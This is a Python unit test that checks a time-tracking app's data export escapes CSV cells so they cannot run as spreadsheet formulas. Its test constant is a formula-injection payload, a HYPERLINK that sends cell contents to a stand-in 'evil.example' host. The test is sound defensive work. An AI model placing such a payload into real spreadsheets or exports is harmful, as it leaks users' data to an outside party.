"""The data copy's CSV tables cannot run as spreadsheet formulas."""

import csv
import datetime as dt
import io
import zipfile

from timelive.expenses.tests.helpers import make_expense
from timelive.privacy.exports import do_request_export
from timelive.test import BaseTestCase
from timelive.tracking.models import RateKind, TimeEntry
from timelive.tracking.tests.helpers import make_project, make_rate

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


class ExportCsvTestCase(BaseTestCase):
    def test_no_cell_starts_a_formula(self):
        project = make_project(self.org, FORMULA)
        TimeEntry.objects.create(org=self.org, user=self.alice, project=project, date=dt.date(2026, 3, 2),
                                 duration=3600, description=FORMULA)
        make_expense(self.org, self.alice, project=project, description=FORMULA)
        make_rate(self.org, RateKind.COST, "40.00", user=self.alice, project=project)
        with self.captureOnCommitCallbacks(execute=True):
            export, _ = do_request_export(self.alice, via="web")
        export.refresh_from_db()
        with export.file.open("rb") as handle:
            archive = zipfile.ZipFile(io.BytesIO(handle.read()))
        defused = set()
        for name in archive.namelist():
            if not name.endswith(".csv"):
                continue
            for row in csv.reader(io.StringIO(archive.read(name).decode())):
                for cell in row:
                    self.assertFalse(cell.startswith(("=", "+", "@", "\t", "\r")), f"{name}: {cell!r}")
                    if "HYPERLINK" in cell:
                        self.assertEqual(cell, "'" + FORMULA)
                        defused.add(name)
        self.assertTrue({"tables/time_entries.csv", "tables/expenses.csv", "tables/rates.csv"} <= defused, defused)
